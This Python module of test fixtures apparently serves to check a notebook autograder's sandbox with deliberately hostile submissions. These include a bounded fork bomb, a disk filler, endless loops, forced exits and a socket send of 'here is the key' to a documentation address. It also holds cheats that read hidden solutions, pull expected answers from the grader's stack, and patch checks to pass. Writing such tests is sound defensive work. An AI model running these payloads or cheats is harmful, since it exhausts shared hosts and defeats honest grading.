"""What the hostile submissions of a pretended class do: text that is never run here.

Each harm is large enough to meet a sandbox's limit and small enough for a host that has none: it
ends by itself after a minute, or leaves room on the disk.
"""

from __future__ import annotations

from dataclasses import dataclass

WARNING = "# Hostile on purpose, to try grading with: run it in a sandbox only."


@dataclass(frozen=True)
class Harm:
    """Code in the place of one answer, and whether it acts as the cell runs or in a call."""

    code: str
    why: str
    when_called: bool = False


@dataclass(frozen=True)
class Cheat:
    """A cheat: the body of its answers, a cell of its own before them, and its check cells."""

    why: str
    body: str = ""  # {notebook} and {cell} say where the answer stands; "" leaves the stub
    code: str = ""
    locked: str = ""  # {points} of the exercise


HARM = {
    "forks": Harm(
        f"""{WARNING}
import os, time

until = time.time() + 60
for _ in range(9):
    os.fork()  # 512 processes
while time.time() < until:
    time.sleep(1)
os._exit(1)""",
        "512 processes that stay for a minute",
    ),
    "fills the disk": Harm(
        f"""{WARNING}
import shutil, tempfile

folder = tempfile.gettempdir()
with tempfile.TemporaryFile() as file:
    for _ in range(8_000):  # 8 GB, and never the host's last 2 GB
        if shutil.disk_usage(folder).free < 2e9:
            break
        file.write(bytes(1_000_000))
    file.flush()""",
        "it writes a file of 8 GB",
        when_called=True,
    ),
    "never ends": Harm(f"{WARNING}\nwhile True:\n    pass", "its cell never ends"),
    "never returns": Harm(
        f"{WARNING}\nwhile True:\n    pass", "its function never returns", when_called=True
    ),
    "prints 100 MB": Harm(
        f'{WARNING}\nfor _ in range(100):\n    print("x" * 1_000_000)', "it prints 100 MB"
    ),
    "exits": Harm(f"{WARNING}\nimport os\n\nos._exit(0)", "it ends its process", when_called=True),
    "opens a socket": Harm(
        f"""{WARNING}
import socket

# 192.0.2.1 is nobody's: an address for documentation (RFC 5737)
socket.create_connection(("192.0.2.1", 80), timeout=5).sendall(b"here is the key")""",
        "it sends to an address outside",
        when_called=True,
    ),
}

CHEATS = {
    "reads the solutions": Cheat(
        "all but the first are read out of solutions/, which a learner does not have: stubs",
        body="""import json, pathlib, sys
import zerolab

caller = sys._getframe(0)
places = [pathlib.Path(".."), *pathlib.Path(zerolab.__file__).parents]
for place in places:
    path = place / "solutions" / "{notebook}"
    if path.exists():
        cells = json.loads(path.read_text())["cells"]
        source = "".join(next(c["source"] for c in cells if c["id"] == "{cell}"))
        scope = dict(globals())
        exec(source, scope)
        values = [caller.f_locals[n] for n in caller.f_code.co_varnames if n in caller.f_locals]
        values = values[: caller.f_code.co_argcount]
        return scope[caller.f_code.co_name](*values)
raise NotImplementedError("your code here")""",
    ),
    "asks its judge": Cheat(
        "all but the first look for the right answer in the judge that calls them: stubs",
        body="""import sys

frame = sys._getframe(1)
while frame:
    for name in ("right", "want", "expected"):
        if "checks" in frame.f_code.co_filename and name in frame.f_locals:
            return frame.f_locals[name]
    frame = frame.f_back
raise NotImplementedError("your code here")""",
    ),
    "edits the checks": Cheat(
        "all but the first are stubs, and the checks are changed so that they take anything",
        code="""import zerolab.course.checks as checks
import zerolab.course.checks.core as core
from zerolab.practice.meter import Meter

for task in core.EXERCISES.values():
    object.__setattr__(task, "judge", lambda *args: None)
core._judged = lambda task, *args: core._verdict(task, task.points, core.PASSED, "")
core.check = checks.check = lambda number, *args: core._judged(core.find(number))
Meter.sent_bytes = lambda self: dict.fromkeys(("total", "all_reduce", "all_gather"), 0)
check = core.check""",
    ),
    "edits locked cells": Cheat(
        "all but the first are stubs, and the check cells say full points by themselves",
        locked="{points}",
    ),
    "shadows check": Cheat(
        "all but the first are stubs, and a check of the learner's own says full points",
        code="""class Full(float):
    def __repr__(self):
        return "1"


def check(*args):
    print("passed")
    return Full(1)""",
    ),
}
